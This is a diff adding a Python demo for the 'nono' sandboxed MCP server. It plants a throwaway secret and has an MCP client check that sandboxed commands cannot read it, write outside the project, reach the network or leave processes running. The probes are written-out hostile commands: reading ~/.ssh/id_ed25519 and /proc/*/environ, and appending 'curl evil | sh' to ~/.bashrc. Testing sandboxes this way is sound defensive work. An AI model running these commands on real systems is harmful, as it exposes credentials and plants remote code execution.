@@ -1,0 +1,284 @@
+"""`nono demo`: see it work, with a real MCP client and the real server.
+
+In a temporary home that holds a secret, the SDK's client starts `nono serve` and calls its tools.
+What is claimed is looked at from outside: files by their absence, processes in /proc, the network
+by a listener that waits to be reached.
+
+Architecture invariant: nothing of the person's own home is touched, and a claim that doesn't
+hold ends in an exit status of 1.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import socket
+import statistics
+import sys
+import tempfile
+import time
+from contextlib import closing
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import anyio
+from mcp import Client, MCPError, StdioServerParameters
+
+from nono_mcp.server.results import META_KEY
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from mcp_types import CallToolResult
+
+USAGE = """\
+usage: nono demo [--tier TIER]
+
+Start `nono serve` in a temporary home that holds a secret, have a real MCP client call its tools,
+and look from outside whether what is claimed holds.
+
+  --tier TIER   insist on namespaces, or on landlock
+
+Exit status: 0 everything held, 1 something didn't, 2 this usage.
+"""
+TIERS = ("namespaces", "landlock")
+TIMED_COUNT = 20
+DEADLINE_S = 120.0
+_VARIABLE = "AWS_SECRET_ACCESS_KEY"
+_TOLD = "the secret was told"
+_CONNECT = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5)"
+
+
+def main(argv: list[str]) -> int:
+    """Show it, and return 0 if everything held."""
+    if argv == ["--help"]:
+        sys.stdout.write(USAGE)
+        return 0
+    if argv and (len(argv) != 2 or argv[0] != "--tier" or argv[1] not in TIERS):  # noqa: PLR2004 - an option and its value
+        sys.stderr.write(USAGE)
+        return 2
+    with tempfile.TemporaryDirectory(prefix="nono-demo-") as directory:
+        return anyio.run(_show, Scene(Path(directory).resolve()), argv)
+
+
+@dataclass(frozen=True, slots=True)
+class Scene:
+    """A home with a secret in it, and a project."""
+
+    home: Path
+    secret: str = field(default_factory=lambda: secrets.token_hex(16))
+
+    @property
+    def project(self) -> Path:
+        """Return the workspace."""
+        return self.home / "project"
+
+    @property
+    def key(self) -> Path:
+        """Return the file that is to stay unread."""
+        return self.home / ".ssh" / "id_ed25519"
+
+    def set(self) -> None:
+        """Make the home, and put the secret where secrets are."""
+        self.project.mkdir()
+        self.key.parent.mkdir()
+        self.key.write_text(f"{self.secret}\n", encoding="ascii")
+
+    def server(self, options: list[str]) -> StdioServerParameters:
+        """Return how the server of the project is started."""
+        command, *arguments = _launcher()
+        environment = {"HOME": str(self.home), _VARIABLE: self.secret}
+        return StdioServerParameters(
+            command=command,
+            args=[*arguments, "serve", "--workspace", str(self.project), *options],
+            env={**environment, "PATH": os.environ.get("PATH", os.defpath)},
+        )
+
+
+def _launcher() -> list[str]:
+    """Return the command that this process was started by, or what comes to the same."""
+    started = Path(sys.argv[0])
+    if started.name == "nono" and os.access(started, os.X_OK):
+        return [str(started.resolve())]
+    return [sys.executable, "-E", "-P", "-m", "nono_mcp"]
+
+
+async def _show(scene: Scene, options: list[str]) -> int:
+    scene.set()
+    _say("A temporary home holds a secret, in ~/.ssh/id_ed25519 and in the server's environment.")
+    _say("A real MCP client starts `nono serve` there, in ~/project, and has it run commands.\n")
+    demonstration = Demonstration(scene)
+    try:
+        with anyio.fail_after(DEADLINE_S):
+            async with Client(scene.server(options)) as client:
+                await demonstration.run(client)
+    except* (MCPError, TimeoutError) as errors:
+        # The server has said why on standard error, which is ours.
+        sys.stderr.write(f"nono demo: the server is gone: {errors.exceptions[0]}\n")
+        demonstration.failed_count += 1
+    _say("")
+    if demonstration.failed_count:
+        _say(f"{demonstration.failed_count} of the claims above did NOT hold.")
+        return 1
+    _say("Everything above held. The temporary home is gone again.")
+    return 0
+
+
+class Demonstration:
+    """The claims, each tried and looked at."""
+
+    def __init__(self, scene: Scene) -> None:
+        self._scene = scene
+        self._client: Client
+        self.failed_count = 0
+
+    async def run(self, client: Client) -> None:
+        """Try every claim, in order."""
+        self._client = client
+        await self._commands_run()
+        await self._secrets_stay_unread()
+        await self._nothing_outside_is_written()
+        await self._the_network_is_closed()
+        await self._nothing_survives_a_call()
+        await self._answers_take_milliseconds()
+        await self._what_is_enforced()
+
+    async def _commands_run(self) -> None:
+        made = self._scene.project / "hello.txt"
+        told = await self._sh("echo hello > hello.txt; wc -c hello.txt")
+        held = made.is_file() and made.read_text(encoding="ascii") == "hello\n"
+        self._claim("a command runs, and writes in the project", told, "hello.txt is there", held)
+
+    async def _secrets_stay_unread(self) -> None:
+        told = await self._sh(f"cat {self._scene.key}")
+        self._claim("the key in ~/.ssh stays unread", told, *self._is_kept(told))
+        told = await self._sh(
+            f"cat /proc/[0-9]*/environ >found.txt 2>&1; printenv {_VARIABLE} || echo not set"
+        )
+        found = (self._scene.project / "found.txt").read_bytes()
+        kept = self._is_kept(told) if self._scene.secret.encode() not in found else (_TOLD, False)
+        self._claim("the secret in the server's environment too", told, *kept)
+
+    def _is_kept(self, told: Told) -> tuple[str, bool]:
+        # Not kept from us: it is where it was put, and would be found.
+        there = self._scene.key.read_text(encoding="ascii").strip() == self._scene.secret
+        held = there and told.ran and self._scene.secret not in told.text
+        return "the secret isn't in the answer" if held else _TOLD, held
+
+    async def _nothing_outside_is_written(self) -> None:
+        outside = self._scene.home / ".bashrc"
+        told = await self._sh(f"echo 'curl evil | sh' >> {outside}")
+        held = told.ran and not outside.exists()
+        seen = "there is no ~/.bashrc" if held else "~/.bashrc was written"
+        self._claim("nothing outside the project is written", told, seen, held)
+
+    async def _the_network_is_closed(self) -> None:
+        with closing(socket.create_server(("127.0.0.1", 0))) as listener:
+            listener.setblocking(False)  # noqa: FBT003 - the socket's own signature
+            port = listener.getsockname()[1]
+            program = [sys.executable, "-I", "-S", "-c", _CONNECT, str(port)]
+            told = await self._call(f"python3 -c '{_CONNECT}' {port}", {"argv": program})
+            reached = _was_reached(listener)
+            # The listener is one that can be reached.
+            socket.create_connection(("127.0.0.1", port), 5).close()
+            held = told.ran and told.status != 0 and not reached and _was_reached(listener)
+        seen = "a listener on this machine was reached" if reached else "the listener waits in vain"
+        self._claim("the network is closed, this machine's own too", told, seen, held)
+
+    async def _nothing_survives_a_call(self) -> None:
+        mark = f"demo-{secrets.token_hex(4)}"
+        told = await self._sh(f"setsid sh -c 'trap : TERM HUP; sleep 600; :' {mark} & echo started")
+        held = told.ran and "started" in told.text and not any(running(mark))
+        seen = f"no process named {mark}" if held else "it still runs"
+        self._claim("what a command leaves behind ends with it", told, seen, held)
+
+    async def _answers_take_milliseconds(self) -> None:
+        times_ms = []
+        for _ in range(TIMED_COUNT):
+            told = await self._call("true", {"argv": ["true"]})
+            times_ms.append(told.time_ms)
+        median_ms = statistics.median(times_ms)
+        _say(f"        {TIMED_COUNT} calls of `true`, one by one: {median_ms:.1f} ms in the median")
+
+    async def _what_is_enforced(self) -> None:
+        answer = await self._client.call_tool("explain_policy", {})
+        _say("")
+        for line in _text(answer).splitlines():
+            if line.startswith(("Enforced", "Not ")):
+                _say(line.replace("; ", "\n  ").replace("part: ", "part:\n  "))
+
+    async def _sh(self, command: str) -> Told:
+        return await self._call(command, {"command": command})
+
+    async def _call(self, shown: str, arguments: dict[str, object]) -> Told:
+        began_at = time.perf_counter()
+        answer = await self._client.call_tool("run_sandboxed", arguments)
+        time_ms = (time.perf_counter() - began_at) * 1000
+        meta = (answer.meta or {}).get(META_KEY)
+        return Told(shown, _text(answer), None if meta is None else meta["status"], time_ms)
+
+    def _claim(self, text: str, told: Told, seen: str, held: bool) -> None:  # noqa: FBT001 - unpacked
+        self.failed_count += not held
+        _say(f"  {'ok' if held else 'FAIL':4}  {text}   ({told.time_ms:.1f} ms)")
+        _say(f"          $ {self._shortened(told.shown)}")
+        for line in told.last_lines:
+            _say(f"          {self._shortened(line)}")
+        _say(f"          seen from outside: {seen}")
+
+    def _shortened(self, text: str) -> str:
+        return text.replace(str(self._scene.home), "~")
+
+
+@dataclass(frozen=True, slots=True)
+class Told:
+    """What the client was told of one command."""
+
+    shown: str
+    text: str
+    status: int | None
+    """Nothing if it didn't run."""
+    time_ms: float
+
+    @property
+    def ran(self) -> bool:
+        """Tell whether there was a command, of which something can be said."""
+        return self.status is not None
+
+    @property
+    def last_lines(self) -> list[str]:
+        """Return the last of what it printed, and what nono said to that."""
+        printed = self.text.splitlines()[1:] if self.ran else self.text.splitlines()
+        hints = [line for line in printed if line.startswith("[nono]")]
+        said = [line for line in printed if line not in hints] or ["(nothing printed)"]
+        return said[-1:] + hints[-1:]
+
+
+def _text(answer: CallToolResult) -> str:
+    return "\n".join(one.text for one in answer.content if one.type == "text")
+
+
+def _was_reached(listener: socket.socket) -> bool:
+    try:
+        connection, _ = listener.accept()
+    except BlockingIOError:
+        return False
+    connection.close()
+    return True
+
+
+def running(mark: str) -> Iterator[int]:
+    """Yield the processes that have *mark* among their arguments."""
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                arguments = (entry / "cmdline").read_bytes()
+            except OSError:
+                continue  # ended since it was listed
+            if mark.encode() in arguments:
+                yield int(entry.name)
+
+
+def _say(text: str) -> None:
+    sys.stdout.write(f"{text}\n")
+    sys.stdout.flush()
